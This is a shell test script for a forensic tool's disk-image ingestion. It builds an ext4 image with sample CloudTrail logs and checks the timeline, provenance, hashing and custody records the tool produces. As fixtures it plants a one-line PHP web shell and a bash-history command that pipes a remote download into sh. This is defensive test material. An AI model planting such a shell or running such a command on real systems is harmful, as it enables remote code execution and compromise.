#!/usr/bin/env bash
# `kanshiki ingest CASE disk.img`: the file-system timeline plus the host logs inside the
# image, read without mounting (the image is made by mke2fs -d, no root needed).
source "$(dirname "$0")/../lib.sh"
command -v mke2fs >/dev/null || { skip mke2fs "e2fsprogs not installed"; exit 0; }
T=$TMP/tree
mkdir -p "$T/etc" "$T/var/log/aws" "$T/var/www/uploads" "$T/root"
echo web01 > "$T/etc/hostname"
python3 - "$T" <<'PY'
import json, gzip, sys, os
t = sys.argv[1]
def rec(i, n):
    return {"eventVersion": "1.08", "eventTime": "2026-11-21T13:%02d:00Z" % i, "eventSource": "ec2.amazonaws.com",
            "eventName": n, "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.7",
            "userIdentity": {"type": "IAMUser", "userName": "u"}}
with open(os.path.join(t, "var/log/aws/trail.json"), "w") as f:
    for i, n in enumerate(["RunInstances", "CreateUser", "StopLogging"]):
        f.write(json.dumps(rec(i, n)) + "\n")
with gzip.open(os.path.join(t, "var/log/aws/trail.1.json.gz"), "wt") as f:
    f.write(json.dumps({"Records": [rec(10, "ListBuckets"), rec(11, "GetObject")]}))
open(os.path.join(t, "var/log/messages"), "w").write("Nov 21 13:00:00 web01 kernel: hello\n")
open(os.path.join(t, "var/www/uploads/sh.php"), "w").write('<?php system($_GET["c"]); ?>\n')
open(os.path.join(t, "root/.bash_history"), "w").write("#1795180000\ncurl -s http://203.0.113.9/x | sh\n")
PY
touch -d '2026-11-21 13:05:00.5' "$T/var/www/uploads/sh.php"
I=$TMP/disk.img
mke2fs -q -t ext4 -d "$T" "$I" 16M || { skip mke2fs_d "mke2fs -d failed"; exit 0; }
sha_before=$(sha256sum "$I")
C=$TMP/case
expect_rc ingest_image_exits_0 0 "$KS" ingest "$C" "$I"
cp "$TMP/.out" "$TMP/ingest.txt"
expect_grep image_summary_lists_filesystem '^filesystem +1 ' "$TMP/ingest.txt"
# (mke2fs -d copies whole seconds only; nanoseconds are checked against the kernel in fs_*.sh)
expect_eq fs_timeline_has_webshell_mtime \
  "$(q "$C" "SELECT time FROM events WHERE source='filesystem' AND target='/var/www/uploads/sh.php' AND time_desc='modified'")" \
  "2026-11-21T13:05:00.000000000Z"
expect_eq fs_events_carry_image_hostname "$(q "$C" "SELECT DISTINCT host FROM events WHERE source='filesystem'")" "web01"
expect_eq fs_row_per_name "$(q "$C" "SELECT count(*) FROM filesystem WHERE path='/var/log/aws/trail.json'")" "1"
expect_eq logs_inside_image_parsed "$(q "$C" "SELECT count(*) FROM cloudtrail")" "5"
expect_eq rotated_gz_inside_image_parsed \
  "$(q "$C" "SELECT records FROM evidence WHERE path LIKE '%disk.img:/var/log/aws/trail.1.json.gz'")" "2"
expect_eq rotated_gz_compression_recorded \
  "$(q "$C" "SELECT compression FROM evidence WHERE path LIKE '%trail.1.json.gz'")" "gzip"
expect_eq artifact_provenance_names_image_and_path \
  "$(q "$C" "SELECT file FROM events WHERE action='StopLogging'")" "$I:/var/log/aws/trail.json"
expect_eq artifact_line_numbers_kept "$(q "$C" "SELECT line FROM events WHERE action='StopLogging'")" "3"
expect_eq artifact_hash_is_image_hash \
  "$(q "$C" "SELECT DISTINCT sha256 FROM evidence")" "$(echo "$sha_before" | cut -d' ' -f1)"
expect_grep unreadable_host_files_counted "host file\(s\) in no format" "$TMP/ingest.txt"
expect_eq image_unchanged "$(sha256sum "$I")" "$sha_before"
expect_rc reingest_image 0 "$KS" ingest -q "$C" "$I"
expect_eq reingest_image_adds_nothing "$(q "$C" "SELECT count(*) FROM cloudtrail")" "5"
expect_eq custody_registers_image_once "$(grep -c '"action":"add"' "$C/custody.jsonl")" "1"
